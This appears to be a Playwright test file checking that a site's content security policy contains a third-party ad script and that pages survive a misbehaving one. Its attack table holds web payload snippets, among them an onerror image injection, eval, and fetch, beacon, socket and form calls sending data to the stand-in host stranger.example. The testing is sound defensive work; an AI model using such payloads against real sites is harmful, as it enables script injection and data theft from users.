/**
 * The partner programme’s script is a stranger that runs in the page. What the content security policy can hold is held; what
 * it cannot hold is written in the README. One tab for many attacks: a new one for each costs more than the attack.
 */
import { expect, type Page, test } from '@playwright/test';
import { adHost, script } from '@/e2e/network.ts';
import { type BannerPlace, banners, need } from '@/e2e/site.ts';
import { all, closest, documentAt, text } from '@/test/site.ts';

let banner: BannerPlace;
test.beforeEach(() => {
  banner = need(banners.inRegion, 'banner in a region’s page');
});
const box = (page: Page) => page.locator(`[data-banner-id="${banner.id}"]`);
const inIsland = '[data-island="banner"]';
const stranger = 'https://stranger.example';

/** What came of an ad script, as it grows. */
interface Outcome {
  /** Directives of the policy that were violated. */
  blocked: string[];
  /** Errors in the page that the ad script did not make itself. */
  ours: string[];
  /** Requests to a host that is neither ours nor the ad host. */
  strange: string[];
}

/** Gets a tab ready. @returns a function that opens the page with an ad script of this code, and waits until it has run */
async function withAdScript(page: Page): Promise<(code: string) => Promise<Outcome>> {
  let code = '';
  let outcome: Outcome = { blocked: [], ours: [], strange: [] };
  await page.exposeFunction('tell', (list: 'blocked' | 'ours', item: string) => outcome[list].push(item));
  await page.addInitScript(() => {
    const tell = Reflect.get(window, 'tell') as (list: string, item: string) => void;
    addEventListener('securitypolicyviolation', (event) => tell('blocked', event.effectiveDirective));
    addEventListener('error', ({ message }) => {
      // All that a browser says of another host’s script.
      if (message !== 'Script error.') tell('ours', message);
    });
    addEventListener('unhandledrejection', ({ reason }) => {
      if (reason?.message !== 'hostile') tell('ours', String(reason));
    });
  });
  await page.route(`${stranger}/**`, (route) => {
    outcome.strange.push(route.request().url());
    return route.fulfill({ contentType: 'text/html', body: '<title>Stranger</title>' });
  });
  await adHost(page, (route) => script(route.request().url().includes(`banner_id=${banner.id}&`) ? code : '')(route));
  return async (next) => {
    code = next;
    outcome = { blocked: [], ours: [], strange: [] };
    await page.goto(banner.path);
    await box(page).scrollIntoViewIfNeeded();
    await expect(box(page).and(page.locator('[data-state="loading"]'))).toHaveCount(0);
    return outcome;
  };
}

const squeeze = (words: string | null) => (words ?? '').replace(/\s/g, '');

/** The page’s own words stand in it, and its own code answers. */
async function expectWhole(page: Page, { ours, strange }: Outcome, what: string): Promise<void> {
  const paragraphs = all(documentAt(banner.path), 'main p').filter((element) => !closest(element, inIsland));
  const words = squeeze(await page.locator('main').textContent());
  expect(paragraphs.length).toBeGreaterThan(20);
  for (const paragraph of paragraphs) expect(words, what).toContain(squeeze(text(paragraph)));
  const tab = page.getByRole('tab').nth(1);
  expect(await page.evaluate(() => Reflect.get(window, 'reached')), what).toBeUndefined();
  await tab.click();
  await expect(tab, what).toHaveAttribute('aria-selected', 'true');
  expect([what, ours, strange]).toEqual([what, [], []]);
}

/** What must not be done, by which directive it is held, and how it is tried; what gets through sets `reached`. */
const attacks: Record<string, [directive: string, code: string]> = {
  eval: ['script-src', 'eval("window.reached = true")'],
  'code made of text': ['script-src', 'new Function("window.reached = true")()'],
  'an inline script': ['script-src-elem', 'add("script", { textContent: "window.reached = true" })'],
  'an inline handler': [
    'script-src-attr',
    'add("div", { innerHTML: "<img src=/x onerror=\'window.reached = true\'>" })',
  ],
  'a script of another host': ['script-src-elem', `add("script", { src: "${stranger}/a.js" })`],
  'a module of another host': ['script-src-elem', `import("${stranger}/a.mjs").catch(() => {})`],
  'a worker': ['worker-src', 'new Worker(URL.createObjectURL(new Blob(["0"])))'],
  'a frame of another host': ['frame-src', `add("iframe", { src: "${stranger}/" })`],
  'a picture of another host': ['img-src', `add("img", { src: "${stranger}/a.png" })`],
  'a request to another host': ['connect-src', `fetch("${stranger}/").catch(() => {})`],
  'a beacon': ['connect-src', `navigator.sendBeacon("${stranger}/", "x")`],
  'a socket': ['connect-src', 'new WebSocket("wss://stranger.example/")'],
  'a style sheet of another host': ['style-src-elem', `add("link", { rel: "stylesheet", href: "${stranger}/a.css" })`],
  'an inline style sheet': ['style-src-elem', 'add("style", { textContent: "main { display: none }" })'],
  'a plug-in': ['object-src', `add("object", { data: "${stranger}/a.swf" })`],
  'another base address': ['base-uri', `add("base", { href: "${stranger}/" })`],
  'a form': ['form-action', `add("form", { action: "${stranger}/", method: "post" }).submit()`],
};

test('the policy holds what an ad script must not do', async ({ page }) => {
  const open = await withAdScript(page);
  const functions = Object.entries(attacks).map(([name, [, code]]) => `${JSON.stringify(name)}: () => { ${code} }`);
  const outcome = await open(`
    const add = (name, properties) => {
      const element = Object.assign(document.createElement(name), properties);
      document.body.append(element);
      return element;
    };
    const attacks = { ${functions.join(',\n')} };
    window.attack = (name) => setTimeout(() => {
      try { attacks[name](); } catch {} // Some are held by an exception.
    });`);
  for (const [name, [directive]] of Object.entries(attacks)) {
    // A form that is held leaves the tab waiting for a navigation that never comes: it is last, after a look at the page.
    if (name === 'a form') await expectWhole(page, outcome, 'all of them');
    outcome.blocked.length = 0;
    await page.evaluate((attack) => (Reflect.get(window, 'attack') as (name: string) => void)(attack), name);
    await expect.poll(() => outcome.blocked, { message: name }).toContain(directive);
  }
  expect(outcome.strange).toEqual([]);
});

test('a page survives a bad ad script', async ({ page }) => {
  const open = await withAdScript(page);
  for (const [what, code] of Object.entries({
    throws: 'throw new Error("hostile")',
    rejects: 'Promise.reject(new Error("hostile"))',
    'is no script': '<!doctype html><p>',
    'floods the console': 'for (let i = 0; i < 5000; i++) console.error("hostile", i)',
    'writes into the document': 'document.write("<h1>hostile</h1>")',
    'appends to the body': 'for (let i = 0; i < 50; i++) document.body.append(document.createElement("div"))',
    'empties its own box': 'document.currentScript.parentElement.replaceChildren()',
    'removes its banner': 'document.currentScript.closest("[data-banner-id]").remove()',
  })) {
    const outcome = await open(code);
    await expectWhole(page, outcome, what);
    await expect(page.locator('h1'), what).toHaveCount(1);
  }
});

test('the ad host learns the site as referrer, not the page', async ({ page, baseURL }) => {
  const referrers: (string | undefined)[] = [];
  await page.route(/^https:/, (route) => {
    referrers.push(route.request().headers().referer);
    const { origin, searchParams } = new URL(route.request().url());
    const creative = `for (const name of ["img", "iframe"])
      document.currentScript.parentElement.append(Object.assign(document.createElement(name), { src: "${origin}/creative" }))`;
    return script(searchParams.has('banner_id') ? creative : '')(route);
  });
  await page.goto(`${banner.path}?utm_source=secret`);
  await box(page).scrollIntoViewIfNeeded();
  await expect.poll(() => referrers.length).toBeGreaterThanOrEqual(3);
  expect(new Set(referrers)).toEqual(new Set([`${baseURL}/`]));
});
